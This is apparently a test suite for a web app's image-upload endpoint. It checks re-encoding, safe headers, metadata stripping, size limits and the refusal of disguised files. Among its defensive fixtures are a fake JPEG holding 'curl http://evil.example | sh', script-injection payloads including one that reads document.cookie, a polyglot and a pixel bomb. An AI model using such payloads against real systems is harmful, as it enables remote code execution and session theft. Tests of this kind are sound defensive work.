import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { callApi, registerAccount } from '../../../test/api';
import { createTestApp, type TestApp } from '../../../test/test-app';

let sut: TestApp;
let owner: { token: string };
let stranger: { token: string };
let accounts = 0;

beforeAll(async () => {
  sut = await createTestApp();
  owner = await registerAccount(sut, 'owner@example.com');
  stranger = await registerAccount(sut, 'stranger@example.com', { ip: '10.0.0.2' });
});
afterAll(async () => {
  await sut?.close();
});

/** A multipart body as a browser's FormData would send it. */
function multipart(fields: { purpose?: string; file?: { name: string; type: string; data: Buffer } }) {
  const boundary = `----kestrel${Math.random().toString(16).slice(2)}`;
  const parts: Buffer[] = [];
  if (fields.purpose !== undefined) {
    parts.push(
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="purpose"\r\n\r\n${fields.purpose}\r\n`,
      ),
    );
  }
  if (fields.file) {
    parts.push(
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${fields.file.name}"\r\n` +
          `Content-Type: ${fields.file.type}\r\n\r\n`,
      ),
      fields.file.data,
      Buffer.from('\r\n'),
    );
  }
  parts.push(Buffer.from(`--${boundary}--\r\n`));
  return { payload: Buffer.concat(parts), contentType: `multipart/form-data; boundary=${boundary}` };
}

async function upload(
  token: string,
  file: { name: string; type: string; data: Buffer },
  options: { purpose?: string; lang?: string } = {},
) {
  const body = multipart({ purpose: options.purpose ?? 'avatar', file });
  const response = await sut.app.inject({
    method: 'POST',
    url: '/api/uploads',
    payload: body.payload,
    headers: {
      authorization: token,
      'content-type': body.contentType,
      ...(options.lang ? { 'think-lang': options.lang } : {}),
    },
  });
  // biome-ignore lint/suspicious/noExplicitAny: each test asserts the fields of the answer it expects
  return { status: response.statusCode, body: response.json() as { code: number; msg: string; data: any } };
}

async function fetchUpload(token: string, id: string) {
  return sut.app.inject({ method: 'GET', url: `/api/uploads/${id}`, headers: { authorization: token } });
}

function solidImage(width: number, height: number) {
  // Without a pixel limit, so that the test can make the images the server must refuse.
  return sharp({
    create: { width, height, channels: 3, background: { r: 200, g: 120, b: 40 } },
    limitInputPixels: false,
  });
}

async function freshUser() {
  accounts += 1;
  return registerAccount(sut, `uploader${accounts}@example.com`, { ip: `10.0.1.${accounts}` });
}

describe('uploading an image', () => {
  it('stores a JPEG re-encoded and serves it to its owner with safe headers', async () => {
    const jpeg = await solidImage(64, 48).jpeg().toBuffer();
    const answer = await upload(owner.token, { name: 'me.jpg', type: 'image/jpeg', data: jpeg });
    expect(answer.status).toBe(200);
    expect(answer.body.data).toMatchObject({ purpose: 'avatar', mime: 'image/jpeg', width: 64, height: 48 });
    expect(answer.body.data.url).toBe(`/api/uploads/${answer.body.data.id}`);

    const served = await fetchUpload(owner.token, answer.body.data.id);
    expect(served.statusCode).toBe(200);
    expect(served.headers['content-type']).toBe('image/jpeg');
    expect(served.headers['content-disposition']).toBe(`inline; filename="${answer.body.data.id}.jpg"`);
    expect(served.headers['x-content-type-options']).toBe('nosniff');
    expect(served.headers['cache-control']).toMatch(/^private, max-age=\d+/);
    expect((await sharp(served.rawPayload).metadata()).format).toBe('jpeg');
  });

  it('takes a photo of several megabytes, as phones make them', async () => {
    const noise = Buffer.alloc(1600 * 1200 * 3);
    for (let at = 0; at < noise.length; at++) noise[at] = (at * 7919) % 251;
    const photo = await sharp(noise, { raw: { width: 1600, height: 1200, channels: 3 } })
      .jpeg({ quality: 100 })
      .toBuffer();
    expect(photo.length).toBeGreaterThan(2 * 1024 * 1024);
    const answer = await upload(owner.token, { name: 'IMG_0001.JPG', type: 'image/jpeg', data: photo });
    expect(answer.body).toMatchObject({ code: 0, data: { width: 1600, height: 1200 } });
  });

  it('keeps the transparency of a PNG by storing it as WebP', async () => {
    const png = await sharp({
      create: { width: 20, height: 20, channels: 4, background: { r: 0, g: 0, b: 0, alpha: 0.5 } },
    })
      .png()
      .toBuffer();
    const answer = await upload(owner.token, { name: 'x.png', type: 'image/png', data: png });
    expect(answer.body.data.mime).toBe('image/webp');
    const served = await fetchUpload(owner.token, answer.body.data.id);
    expect(served.headers['content-disposition']).toContain('.webp"');
  });

  it('gives another user 404, not 403, for someone else’s image, and the same for an unknown id', async () => {
    const jpeg = await solidImage(10, 10).jpeg().toBuffer();
    const answer = await upload(
      owner.token,
      { name: 'id-front.jpg', type: 'image/jpeg', data: jpeg },
      {
        purpose: 'identity',
      },
    );
    const byStranger = await fetchUpload(stranger.token, answer.body.data.id);
    expect(byStranger.statusCode).toBe(404);
    const unknown = await fetchUpload(owner.token, '7d3f0c8e-5b7a-4e43-9a57-3d1c3c7e2f10');
    expect(unknown.statusCode).toBe(404);
    expect(byStranger.json()).toEqual(unknown.json());
    expect((await fetchUpload(owner.token, 'not-a-uuid')).statusCode).toBe(404);
  });

  it('refuses a request without a token', async () => {
    const jpeg = await solidImage(10, 10).jpeg().toBuffer();
    expect((await upload('', { name: 'a.jpg', type: 'image/jpeg', data: jpeg })).status).toBe(401);
  });

  it('refuses a renamed executable that claims to be a JPEG', async () => {
    const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(256, 0x90)]);
    const answer = await upload(owner.token, { name: 'x.jpg', type: 'image/jpeg', data: elf });
    expect(answer.status).toBe(415);
    expect(answer.body).toMatchObject({ code: 3011, msg: expect.stringContaining('JPEG, PNG or WebP') });

    const script = Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n');
    const shell = await upload(
      owner.token,
      { name: 'x.jpg', type: 'image/jpeg', data: script },
      { lang: 'de' },
    );
    expect(shell.body).toMatchObject({ code: 3011, msg: expect.stringContaining('kein unterstütztes Bild') });
  });

  it('refuses a GIF and an SVG, which are not on the allow-list', async () => {
    const gif = await solidImage(4, 4).gif().toBuffer();
    expect((await upload(owner.token, { name: 'a.jpg', type: 'image/jpeg', data: gif })).body.code).toBe(
      3011,
    );
    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
    expect((await upload(owner.token, { name: 'a.png', type: 'image/png', data: svg })).body.code).toBe(3011);
  });

  it('refuses a JPEG header followed by HTML as a damaged image', async () => {
    const fake = Buffer.concat([
      Buffer.from([0xff, 0xd8, 0xff, 0xe0]),
      Buffer.from('<html><script>alert(document.cookie)</script></html>'),
    ]);
    const answer = await upload(owner.token, { name: 'x.jpg', type: 'image/jpeg', data: fake });
    expect(answer.status).toBe(400);
    expect(answer.body.code).toBe(3014);
  });

  it('serves a clean image when a polyglot hides HTML and an archive after the picture', async () => {
    const jpeg = await solidImage(32, 32).jpeg().toBuffer();
    const zipHeader = Buffer.from([0x50, 0x4b, 0x03, 0x04]);
    const polyglot = Buffer.concat([jpeg, Buffer.from('<script>alert(1)</script>'), zipHeader]);
    const answer = await upload(owner.token, { name: 'gifar.jpg', type: 'image/jpeg', data: polyglot });
    expect(answer.status).toBe(200);
    const served = (await fetchUpload(owner.token, answer.body.data.id)).rawPayload;
    expect(served.includes(Buffer.from('<script>'))).toBe(false);
    expect(served.includes(zipHeader)).toBe(false);
    expect(served.subarray(-2)).toEqual(Buffer.from([0xff, 0xd9]));
  });

  it('refuses a file over 10 MB', async () => {
    const big = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(10 * 1024 * 1024 + 1)]);
    const answer = await upload(owner.token, { name: 'big.jpg', type: 'image/jpeg', data: big });
    expect(answer.status).toBe(413);
    expect(answer.body).toMatchObject({ code: 3012, msg: expect.stringContaining('10 MB') });
  });

  it('refuses a 20000x20000 PNG before decoding it', async () => {
    const huge = await solidImage(20_000, 20_000).png({ compressionLevel: 9 }).toBuffer();
    expect(huge.length).toBeLessThan(10 * 1024 * 1024);
    const answer = await upload(owner.token, { name: 'bomb.png', type: 'image/png', data: huge });
    expect(answer.status).toBe(400);
    expect(answer.body).toMatchObject({ code: 3013, msg: expect.stringContaining('40 megapixels') });
  });

  it('strips EXIF and GPS from a photo and turns it upright', async () => {
    const withGps = await solidImage(40, 20)
      .jpeg()
      .withMetadata({ orientation: 6 })
      .withExifMerge({ IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '51/1 30/1 0/1' } })
      .toBuffer();
    expect((await sharp(withGps).metadata()).exif).toBeDefined();

    const answer = await upload(owner.token, { name: 'holiday.jpg', type: 'image/jpeg', data: withGps });
    const served = (await fetchUpload(owner.token, answer.body.data.id)).rawPayload;
    const metadata = await sharp(served).metadata();
    expect(metadata.exif).toBeUndefined();
    expect(metadata.orientation).toBeUndefined();
    // Orientation 6 means "rotate 90°": the stored image is already upright, so it is taller than wide.
    expect([metadata.width, metadata.height]).toEqual([20, 40]);
  });

  it('refuses an unknown purpose and a request without a file', async () => {
    const jpeg = await solidImage(8, 8).jpeg().toBuffer();
    const wrongPurpose = await upload(
      owner.token,
      { name: 'a.jpg', type: 'image/jpeg', data: jpeg },
      {
        purpose: 'banner',
      },
    );
    expect(wrongPurpose.status).toBe(400);

    const body = multipart({ purpose: 'avatar' });
    const noFile = await sut.app.inject({
      method: 'POST',
      url: '/api/uploads',
      payload: body.payload,
      headers: { authorization: owner.token, 'content-type': body.contentType },
    });
    expect(noFile.json()).toMatchObject({ code: 3010 });

    const json = await callApi(sut, 'POST', '/api/uploads', {
      token: owner.token,
      body: { purpose: 'avatar' },
    });
    expect(json.body.code).toBe(3010);
  });

  it('limits how many images one user uploads in an hour', async () => {
    const user = await freshUser();
    const tiny = await solidImage(2, 2).jpeg().toBuffer();
    const answers = [];
    for (let attempt = 0; attempt < 31; attempt++) {
      answers.push(await upload(user.token, { name: 'a.jpg', type: 'image/jpeg', data: tiny }));
    }
    expect(answers.slice(0, 30).every((answer) => answer.status === 200)).toBe(true);
    expect(answers[30]).toMatchObject({ status: 429, body: { code: 3015 } });
  });
});
